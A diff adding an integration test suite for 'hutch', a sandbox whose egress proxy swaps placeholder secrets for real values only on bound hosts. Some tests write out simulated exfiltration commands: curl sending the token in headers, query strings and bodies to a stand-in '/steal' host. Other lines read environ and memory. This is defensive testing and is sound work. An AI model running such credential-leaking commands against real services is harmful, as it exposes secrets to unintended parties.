@@ -1,0 +1,406 @@
+"""Placeholder secrets against real sandboxes, the real proxy and real HTTPS servers.
+
+The servers live in a network namespace this module creates (as tests/integration/
+test_network.py does), with certificates of a CA made here: the daemon verifies them with
+that CA (``HUTCH_EGRESS_CA``), never with the sandbox's. ``wrong.secret.test`` presents a
+certificate of another CA: the proxy must refuse it. Every server writes what it received
+(headers and body) to a log the tests read, and echoes the Authorization header it got.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import datetime
+import json
+import os
+import random
+import re
+import secrets
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.x509.oid import NameOID
+from tests.conftest import Daemon, destroy_all, sweep
+
+from hutch import HutchError, Sandbox
+
+SERVER = r"""
+import http.server, json, socketserver, ssl, sys
+addr, port, name, log, cert = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def _serve(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(n) if n else b""
+        with open(log, "a") as f:
+            f.write(json.dumps({"host": self.headers.get("Host"), "path": self.path,
+                                "headers": dict(self.headers), "body": body.decode("latin-1")}) + "\n")
+        out = json.dumps({"server": name, "auth": self.headers.get("Authorization"), "size": len(body)}).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+    do_GET = do_POST = _serve
+    def log_message(self, *a):
+        pass
+class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+server = S((addr, port), H)
+if cert != "-":
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(cert)
+    server.socket = ctx.wrap_socket(server.socket, server_side=True)
+server.serve_forever()
+"""
+
+VALUE = "sk-live-" + secrets.token_hex(20)  # the real secret: must never be inside a sandbox
+
+
+def ip(*args: str) -> None:
+    subprocess.run(["ip", *args], check=True, capture_output=True)
+
+
+def _ca(name: str) -> tuple[ec.EllipticCurvePrivateKey, x509.Certificate]:
+    key = ec.generate_private_key(ec.SECP256R1())
+    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
+    now = datetime.datetime.now(datetime.UTC)
+    cert = (
+        x509.CertificateBuilder()
+        .subject_name(subject)
+        .issuer_name(subject)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - datetime.timedelta(hours=1))
+        .not_valid_after(now + datetime.timedelta(days=2))
+        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
+        .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False), critical=True)
+        .sign(key, hashes.SHA256())
+    )
+    return key, cert
+
+
+def _server_pem(ca: tuple[ec.EllipticCurvePrivateKey, x509.Certificate], names: list[str]) -> bytes:
+    ca_key, ca_cert = ca
+    key = ec.generate_private_key(ec.SECP256R1())
+    now = datetime.datetime.now(datetime.UTC)
+    cert = (
+        x509.CertificateBuilder()
+        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])]))
+        .issuer_name(ca_cert.subject)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - datetime.timedelta(hours=1))
+        .not_valid_after(now + datetime.timedelta(days=2))
+        .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in names]), critical=False)
+        .sign(ca_key, hashes.SHA256())
+    )
+    pem = cert.public_bytes(serialization.Encoding.PEM)
+    return pem + key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+
+
+@dataclass
+class Upstream:
+    dir: Path
+    ca_pem: bytes  # the CA of the good servers (the daemon trusts it through HUTCH_EGRESS_CA)
+    logs: dict[str, Path]
+
+    def received(self, name: str) -> list[dict[str, Any]]:
+        path = self.logs[name]
+        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+
+
+@pytest.fixture(scope="module")
+def upstream() -> Iterator[Upstream]:
+    assert os.geteuid() == 0, "these tests build a network namespace: run them as root (as CI does)"
+    tag = secrets.token_hex(3)
+    ns, hv, nv = f"hutch-s{tag}", f"hs{tag}", f"ns{tag}"
+    base = random.randrange(0, 2 * 256 * 64) * 4
+    net = [198, 18 + base // 65536, (base // 256) % 256, base % 256]
+    host_addr = ".".join(map(str, [*net[:3], net[3] + 1]))
+    addr = ".".join(map(str, [*net[:3], net[3] + 2]))
+    tmp = Path(tempfile.mkdtemp(prefix="hutch-secret-net-"))
+    procs: list[subprocess.Popen[bytes]] = []
+    try:
+        ip("netns", "add", ns)
+        ip("link", "add", hv, "type", "veth", "peer", "name", nv)
+        ip("link", "set", nv, "netns", ns)
+        ip("addr", "add", f"{host_addr}/30", "dev", hv)
+        ip("link", "set", hv, "up")
+        ip("-n", ns, "addr", "add", f"{addr}/30", "dev", nv)
+        ip("-n", ns, "link", "set", nv, "up")
+        ip("-n", ns, "link", "set", "lo", "up")
+        good, bad = _ca("secret test CA"), _ca("some other CA")
+        (tmp / "good.pem").write_bytes(_server_pem(good, ["api.secret.test", "other.secret.test"]))
+        (tmp / "bad.pem").write_bytes(_server_pem(bad, ["wrong.secret.test"]))
+        ca_pem = good[1].public_bytes(serialization.Encoding.PEM)
+        (tmp / "ca.pem").write_bytes(ca_pem)
+        (tmp / "server.py").write_text(SERVER)
+        servers = {"tls": (8443, "good.pem"), "wrong": (9443, "bad.pem"), "plain": (8080, "-")}
+        logs = {name: tmp / f"{name}.log" for name in servers}
+        for name, (port, cert) in servers.items():
+            pem = str(tmp / cert) if cert != "-" else "-"
+            argv = [sys.executable, str(tmp / "server.py"), addr, str(port), name, str(logs[name]), pem]
+            procs.append(subprocess.Popen(["ip", "netns", "exec", ns, *argv]))
+        (tmp / "hosts").write_text(f"{addr} api.secret.test other.secret.test wrong.secret.test\n")
+        deadline = time.monotonic() + 20
+        for port, _ in servers.values():
+            while True:
+                try:
+                    socket.create_connection((addr, port), timeout=0.5).close()
+                    break
+                except OSError:
+                    assert time.monotonic() < deadline, "upstream servers did not start"
+                    time.sleep(0.05)
+        yield Upstream(tmp, ca_pem, logs)
+    finally:
+        for proc in procs:
+            proc.kill()
+            proc.wait(5)
+        with contextlib.suppress(subprocess.CalledProcessError):
+            ip("link", "del", hv)
+        with contextlib.suppress(subprocess.CalledProcessError):
+            ip("netns", "del", ns)
+        subprocess.run(["rm", "-rf", str(tmp)], check=False)
+
+
+@pytest.fixture(scope="module")
+def secd(upstream: Upstream) -> Iterator[Daemon]:
+    home = Path(tempfile.mkdtemp(prefix="hutch-test-"))
+    d = Daemon(home, HUTCH_EGRESS_HOSTS=str(upstream.dir / "hosts"), HUTCH_EGRESS_CA=str(upstream.dir / "ca.pem")).start()
+    try:
+        yield d
+    finally:
+        try:
+            destroy_all(home)
+        finally:
+            d.stop()
+            sweep(home)
+            subprocess.run(["rm", "-rf", str(home)], check=False)
+
+
+HOSTS = ["api.secret.test", "other.secret.test", "wrong.secret.test"]
+PORTS = [8443, 9443, 8080]
+
+
+def make(d: Daemon, **extra: Any) -> Sandbox:
+    options: dict[str, Any] = {
+        "allow_hosts": HOSTS,
+        "allow_ports": PORTS,
+        "secrets": {"TOKEN": VALUE},
+        "secret_hosts": {"TOKEN": ["api.secret.test"]},
+    }
+    return Sandbox.create(settings=d.settings, **(options | extra))
+
+
+@pytest.fixture(scope="module")
+def box(secd: Daemon) -> Iterator[Sandbox]:
+    sbx = make(secd)
+    try:
+        yield sbx
+    finally:
+        sbx.destroy()
+
+
+def sh(sbx: Sandbox, script: str, redact: bool = True) -> tuple[int, str, str]:
+    r = sbx.exec(["sh", "-c", script], redact=redact, timeout=60)
+    return r.exit_code, r.stdout, r.stderr
+
+
+def events(d: Daemon, sbx: Sandbox, *types: str) -> list[dict[str, Any]]:
+    with d.client() as c:
+        return list(c.events(sbx.id, types=list(types) or None))
+
+
+def placeholder_of(sbx: Sandbox) -> str:
+    code, out, err = sh(sbx, 'printf %s "$TOKEN"', redact=False)
+    assert code == 0, err
+    assert re.fullmatch(r"hutch-secret-TOKEN-[0-9a-f]{32}", out), out
+    return out
+
+
+def sandbox_pids(home: Path, sandbox_id: str) -> list[int]:
+    from hutch.providers.local import cgroups
+
+    layout = cgroups.detect()
+    parents = [*layout.v1.values(), *([layout.v2 / cgroups.GROUP] if layout.v2 else [])]
+    pids: set[int] = set()
+    for parent in parents:
+        procs = parent / sandbox_id / "cgroup.procs"
+        if procs.exists():
+            pids |= {int(p) for p in procs.read_text().split()}
+    return sorted(pids)
+
+
+def memory_holds(pid: int, needle: bytes) -> bool:
+    """Does any readable mapping of ``pid`` hold ``needle``? (read as root, from the host)"""
+    found = False
+    with contextlib.suppress(FileNotFoundError, ProcessLookupError):
+        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
+        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
+            for line in maps:
+                span, perms = line.split()[:2]
+                if "r" not in perms:
+                    continue
+                start, end = (int(x, 16) for x in span.split("-"))
+                if end - start > 1 << 30:
+                    continue
+                try:
+                    mem.seek(start)
+                    if needle in mem.read(end - start):
+                        found = True
+                except (OSError, ValueError, OverflowError):
+                    continue
+    return found
+
+
+def test_the_bound_host_gets_the_value_and_the_sandbox_only_a_placeholder(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
+    token = placeholder_of(box)
+    before = len(upstream.received("tls"))
+    code, out, err = sh(box, 'curl -sS -m 30 -H "Authorization: Bearer $TOKEN" https://api.secret.test:8443/v1/me')
+    assert code == 0, err
+    got = upstream.received("tls")[before:]
+    assert [r["headers"].get("Authorization") for r in got] == [f"Bearer {VALUE}"]
+    # the server echoes what it received: the proxy turns the value back into the placeholder
+    assert json.loads(out) == {"server": "tls", "auth": "Bearer [redacted:TOKEN]", "size": 0}
+    # the environment, /proc/self/environ and the output hold the placeholder, redacted as before
+    code, out, _ = sh(box, 'echo "$TOKEN"; cat /proc/self/environ | tr "\\0" "\\n" | grep ^TOKEN=')
+    assert out == "[redacted:TOKEN]\nTOKEN=[redacted:TOKEN]\n"
+    code, out, _ = sh(box, 'cat /proc/self/environ | tr "\\0" "\\n" | grep ^TOKEN=', redact=False)
+    assert out == f"TOKEN={token}\n"
+    assert VALUE not in out
+    # its trust: the host's CAs and its own, also where programs that ignore the variables look
+    code, out, _ = sh(box, "cmp /.hutch/sandbox-ca.crt /etc/ssl/certs/ca-certificates.crt && echo $SSL_CERT_FILE")
+    assert (code, out) == (0, "/.hutch/sandbox-ca.crt\n")
+    # no process of the sandbox holds the value in memory; the placeholder is found (the scan sees)
+    run = box.exec(["sh", "-c", 'X="$TOKEN"; exec sleep 60'], background=True)
+    try:
+        deadline = time.monotonic() + 30
+        while len(pids := sandbox_pids(secd.home, box.id)) < 3 and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert pids
+        assert not [pid for pid in pids if memory_holds(pid, VALUE.encode())]
+        assert [pid for pid in pids if memory_holds(pid, token.encode())]
+    finally:
+        run.kill()
+    subs = events(secd, box, "secret_substituted")
+    assert subs
+    assert {"host": "api.secret.test", "secret": "TOKEN", "where": "header", "port": 8443}.items() <= subs[-1]["data"].items()
+    assert VALUE not in json.dumps(events(secd, box))
+
+
+def test_the_placeholder_to_another_allowed_host_is_blocked(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
+    before = len(upstream.received("tls"))
+    code, out, _ = sh(box, 'curl -sS -m 30 -i -H "Authorization: Bearer $TOKEN" https://other.secret.test:8443/steal')
+    assert code == 0 and "403 Forbidden" in out and "reason=secret_host" in out
+    code, out, _ = sh(box, 'curl -sS -m 30 -i "https://other.secret.test:8443/q?k=$TOKEN"')
+    assert "403 Forbidden" in out
+    code, out, _ = sh(box, 'curl -sS -m 30 -i --data "t=$TOKEN" https://other.secret.test:8443/post')
+    assert "403 Forbidden" in out
+    code, out, _ = sh(box, 'curl -sS -m 30 -i -H "X-Leak: $TOKEN" http://other.secret.test:8080/plain')
+    assert "403 Forbidden" in out
+    # nothing carrying it arrived anywhere; a request without it still goes through
+    assert upstream.received("tls")[before:] == []
+    code, out, err = sh(box, "curl -sS -m 30 https://other.secret.test:8443/fine")
+    assert code == 0 and json.loads(out)["server"] == "tls", err
+    blocked = [e["data"] for e in events(secd, box, "secret_exfiltration_blocked")]
+    assert [(b["host"], b["secret"], b["where"]) for b in blocked[-4:]] == [
+        ("other.secret.test", "TOKEN", "header"),
+        ("other.secret.test", "TOKEN", "target"),
+        ("other.secret.test", "TOKEN", "body"),
+        ("other.secret.test", "TOKEN", "header"),
+    ]
+
+
+def test_a_wrong_upstream_certificate_is_refused(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
+    _, out, _ = sh(box, 'curl -sS -m 30 -i -H "Authorization: Bearer $TOKEN" https://wrong.secret.test:9443/')
+    assert "502 Bad Gateway" in out and "not trusted" in out
+    assert upstream.received("wrong") == []
+    denied = [e["data"] for e in events(secd, box, "egress_denied")]
+    assert denied[-1]["reason"] == "upstream_certificate" and denied[-1]["host"] == "wrong.secret.test"
+
+
+def test_plain_http_is_substituted_too(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
+    before = len(upstream.received("plain"))
+    code, out, err = sh(box, 'curl -sS -m 30 -H "Authorization: Bearer $TOKEN" http://api.secret.test:8080/plain')
+    assert code == 0, err
+    got = upstream.received("plain")[before:]
+    assert [r["headers"]["Authorization"] for r in got] == [f"Bearer {VALUE}"]
+    assert VALUE not in out
+
+
+def test_bodies_only_when_asked(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
+    token = placeholder_of(box)
+    before = len(upstream.received("tls"))
+    code, _, err = sh(box, 'curl -sS -m 30 --data "token=$TOKEN" https://api.secret.test:8443/form')
+    assert code == 0, err
+    assert [r["body"] for r in upstream.received("tls")[before:]] == [f"token={token}"]  # not asked: left as it is
+    opted = make(secd, secret_body=["TOKEN"])
+    try:
+        before = len(upstream.received("tls"))
+        code, out, err = sh(opted, 'curl -sS -m 30 --data "{\\"key\\": \\"$TOKEN\\"}" https://api.secret.test:8443/json')
+        assert code == 0, err
+        got = upstream.received("tls")[before:]
+        assert [r["body"] for r in got] == [f'{{"key": "{VALUE}"}}']
+        assert got[0]["headers"]["Content-Length"] == str(len(got[0]["body"]))
+        assert json.loads(out)["size"] == len(got[0]["body"])
+        wheres = {e["data"]["where"] for e in events(secd, opted, "secret_substituted")}
+        assert wheres == {"body"}
+    finally:
+        opted.destroy()
+
+
+def test_no_intercept_relays_a_host_unopened(secd: Daemon, upstream: Upstream) -> None:
+    sbx = make(secd, no_intercept=["other.secret.test"])
+    try:
+        token = placeholder_of(sbx)
+        sbx.files.write("/workspace/ca.pem", upstream.ca_pem)
+        before = len(upstream.received("tls"))
+        # the real server's certificate reaches the sandbox (it trusts that CA only when told to)
+        script = 'curl -sS -m 30 --cacert /workspace/ca.pem -H "Authorization: Bearer $TOKEN" https://other.secret.test:8443/'
+        code, _, err = sh(sbx, script)
+        assert code == 0, err
+        assert [r["headers"]["Authorization"] for r in upstream.received("tls")[before:]] == [f"Bearer {token}"]  # unchecked
+        code, _, err = sh(sbx, "curl -sS -m 30 https://other.secret.test:8443/")
+        assert code != 0  # not intercepted: the sandbox's own CA is not what it gets
+        assert not [e for e in events(secd, sbx, "secret_exfiltration_blocked")]
+        with secd.client() as c:
+            assert c.get(sbx.id)["spec"]["no_intercept"] == ["other.secret.test"]
+    finally:
+        sbx.destroy()
+
+
+def test_bad_input_is_refused_at_create_and_leaves_nothing(secd: Daemon) -> None:
+    with secd.client() as c:
+        before = {r["id"] for r in c.list(include_all=True)}
+    cases = [
+        ({"secret_hosts": {"TOKEN": ["not-allowed.example"]}}, "does not allow not-allowed.example"),
+        ({"secret_hosts": {"NOPE": ["api.secret.test"]}}, "unknown secret NOPE"),
+        ({"secrets": {"TOKEN": ""}}, "secret TOKEN has no value"),
+        ({"secret_body": ["OTHER"]}, "OTHER is not bound to a host"),
+        ({"network": "none", "allow_hosts": [], "allow_ports": []}, "does not allow api.secret.test"),
+    ]
+    for extra, message in cases:
+        with pytest.raises(HutchError) as info:
+            make(secd, **extra)
+        assert info.value.kind == "invalid" and message in info.value.message, info.value.message
+        assert info.value.hint
+    with secd.client() as c:
+        assert {r["id"] for r in c.list(include_all=True)} == before
+    # the CLI: a secret whose value is missing from the environment
+    env = {k: v for k, v in os.environ.items() if k != "TOKEN"} | {"HUTCH_HOME": str(secd.home)}
+    argv = [sys.executable, "-m", "hutch", "create", "--allow-host", "api.secret.test", "--secret", "TOKEN"]
+    proc = subprocess.run([*argv, "--secret-host", "TOKEN=api.secret.test"], env=env, capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 2 and "$TOKEN is not set" in proc.stderr
